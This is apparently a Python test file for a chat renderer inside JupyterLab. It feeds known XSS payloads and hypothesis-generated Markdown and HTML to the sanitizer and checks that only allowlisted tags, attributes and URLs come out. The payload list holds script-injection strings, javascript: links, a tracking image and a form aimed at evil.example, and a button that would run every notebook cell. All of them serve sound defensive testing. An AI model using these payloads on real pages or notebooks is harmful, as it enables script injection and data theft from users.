"""The one renderer: model text in, nothing outside the allowlist out.

A stdlib HTML parser reads what :mod:`nbchat.base.markup` produced and checks every
tag, attribute and URL against the allowlist; hypothesis feeds it adversarial
Markdown and HTML built from the payloads that run code in JupyterLab.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nbchat.base import _markdown, markup

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "![x](https://evil.example/track.png?secret=1)",
    "<button data-commandlinker-command='notebook:run-all-cells'>Run</button>",
    "<form action='https://evil.example'><input name=a></form>",
    "<div style='position:fixed;inset:0' onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src=x>",
    "<link rel=import href=x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:/'>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "`` ` `` <img src=x onerror=alert(1)> ``",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "<http://x.example/\" onmouseover=\"alert(1)>",
    "[a](http://x.example/\" onmouseover=\"alert(1))",
    "[a](</api/kernels>)",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</div><script>alert(1)</script>\n$$",
]
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"}, "ol": {"start"}, "details": {"open"},
    "th": {"align"}, "td": {"align"},
}
GLOBAL_ATTRIBUTES = {"class"}


class Inspector(HTMLParser):
    """Collects what the HTML would put in the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in markup.TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()) | GLOBAL_ATTRIBUTES:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "class":
                classes = set((value or "").split()) - markup.CLASSES.get(tag, frozenset())
                if classes:
                    self.problems.append(f"classes {classes} on <{tag}>")
            if name == "href" and not re.match(r"^(https?:|mailto:)", value or "", re.I):
                self.problems.append(f"href {value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append("a comment")


def problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_renderer(payload: str) -> None:
    html = markup.markdown(payload)
    assert problems(html) == []
    assert not re.search(r"<(script|iframe|img|svg|button|form|object|embed|style)\b", html, re.I)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_text_shows_the_payload_as_it_is(payload: str) -> None:
    html = markup.text(payload, block=True)
    assert problems(html) == []
    assert html.count("<") == 2 + payload.count("\n")  # <p>, </p> and a <br> a line


fragments = st.sampled_from(
    PAYLOADS + ["**", "_", "`", "```", "~~~", "\n", "\n\n", "    ", "> ", "- ", "1. ", "[", "]",
                "(", ")", "<", ">", "\"", "'", "&", "&#", ";", "$", "$$", "|", "---", "javascript:",
                "http://x.example/", "onerror=", "<a href=", "<img", "\\", "!", "#"]
)
adversarial = st.lists(st.one_of(fragments, st.text(max_size=8)), max_size=24).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(adversarial)
def test_nothing_outside_the_allowlist_survives(source: str) -> None:
    assert problems(markup.markdown(source)) == []


@settings(max_examples=200, deadline=None)
@given(adversarial)
def test_markdown_for_files_keeps_no_raw_html(source: str) -> None:
    from markdown_it import MarkdownIt

    parsed = MarkdownIt("commonmark", {"html": True}).parse(markup.markdown_source(source))
    raw = [t for t in parsed if t.type == "html_block"] + [
        c for t in parsed for c in (t.children or ()) if c.type == "html_inline"
    ]
    assert raw == []


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="`ab\n <>", max_size=40))
def test_a_fence_is_longer_than_any_backtick_run_inside(body: str) -> None:
    from markdown_it import MarkdownIt

    fenced = markup.fence(body, "text")
    tokens = MarkdownIt("commonmark").parse(fenced + "\n\nafter <b>")
    assert tokens[0].type == "fence"
    assert tokens[0].content.rstrip("\n") == body.rstrip("\n")


def test_answers_still_read_as_markdown() -> None:
    html = markup.markdown(
        "# Title\n\nSome **bold**, _em_, ~~gone~~ and `code`.\n\n- one\n- two\n\n"
        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\nimport pandas as pd\n```\n\n"
        "Inline $x^2$ and\n\n$$\\int_0^1 x\\,dx$$\n\n[docs](https://example.org/a?b=1)"
    )
    for piece in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<del>gone</del>",
                  "<code>code</code>", "<li>one</li>", '<th align="right">a</th>',
                  '<span class="kn">import</span>',
                  f'<span class="{M}">$x^2$</span>',
                  f'<div class="{M}">$$\\int_0^1 x\\,dx$$</div>',
                  '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">'):
        assert piece in html, piece


def test_an_image_becomes_a_link_that_loads_nothing() -> None:
    html = markup.markdown("![chart](https://example.org/c.png)")
    assert html == (
        '<p><a href="https://example.org/c.png" rel="noopener noreferrer nofollow">'
        "[image: chart]</a></p>\n"
    )


def test_code_shows_every_line_escaped() -> None:
    source = "x = 1  # <!-- hidden\nprint('</pre><img src=x onerror=alert(1)>')\n-->\n"
    html = markup.code(source)
    assert problems(html) == []
    text = re.sub(r"<[^>]+>", "", html)
    import html as html_module

    assert html_module.unescape(text).rstrip("\n") == source.rstrip("\n")


def test_streaming_renders_only_the_newest_block_again() -> None:
    markup._block_html.cache_clear()
    text = "".join(f"Paragraph {i} with *some* words.\n\n" for i in range(200))
    markup.markdown(text)
    first = markup._block_html.cache_info()
    markup.markdown(text + "One more")
    second = markup._block_html.cache_info()
    assert first.misses == 200
    assert second.misses - first.misses == 1  # the new block; the 200 before are cached


def test_blocks_join_to_what_the_whole_text_renders() -> None:
    text = (
        "# A\n\npara *one*\n\n```python\nx = 1\n\ny = 2\n```\n\n- a\n- b\n\n1. x\n\n   more\n"
        "2. y\n\n> quote\n\n    indented code\n\n    more code\n\n| a |\n|---|\n| b |\n"
    )
    whole = _markdown.render(text, markup.code, markup.sanitize)
    assert markup.markdown(text) == whole


def test_pieces_refuse_text_that_was_not_made_safe() -> None:
    with pytest.raises(TypeError):
        markup.join(["<b>not safe</b>"])  # type: ignore[list-item]
    with pytest.raises(TypeError):
        markup.bundle("<b>not safe</b>", "x")  # type: ignore[arg-type]
    with pytest.raises(ValueError):
        markup.element("script", "x")


M = markup.MATH_CLASSES  # what MathJax typesets, in an output it otherwise skips


@pytest.mark.parametrize(("source", "shown"), [
    ("it costs $5 and $10", "<p>it costs $5 and $10</p>\n"),
    ("from $5 to $ 10$", "<p>from $5 to $ 10$</p>\n"),
    ("`$x$` and $y$", f'<p><code>$x$</code> and <span class="{M}">$y$</span></p>\n'),
    ("$a_1 + b_1$ and $x*y*z$",
     f'<p><span class="{M}">$a_1 + b_1$</span> and <span class="{M}">$x*y*z$</span></p>\n'),
    ("$$\n\\frac{a}{b}\n$$", f'<div class="{M}">$$\n\\frac{{a}}{{b}}\n$$</div>\n'),
    ("$<b>$", f'<p><span class="{M}">$&lt;b&gt;$</span></p>\n'),
    ("[`", "<p>[`</p>\n"),
    ("<div>\n**not bold**\n</div>", "&lt;div&gt;\n**not bold**\n&lt;/div&gt;\n"),
])
def test_math_prices_code_and_raw_html_edges(source: str, shown: str) -> None:
    assert markup.markdown(source) == shown


def test_math_in_fenced_code_stays_code() -> None:
    html = markup.markdown("```text\ncost: $5 and $x$\n```")
    assert html == '<pre class="nbchat-code"><code>cost: $5 and $x$\n</code></pre>\n'


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="abdefcl ()[]{}:=<>&;'\"\\#\n\t_0123.e+-*/@!fr", max_size=60)
       | st.sampled_from(["def f(x) -> int:\n    return x &lt; 1\n", "r'\\'' b\"x\"", "'''a\n"]))
def test_python_code_shows_every_character_escaped(source: str) -> None:
    html = markup.code(source, "python")
    assert problems(html) == []
    import html as html_module

    assert html_module.unescape(re.sub(r"<[^>]+>", "", html)) == source + "\n"
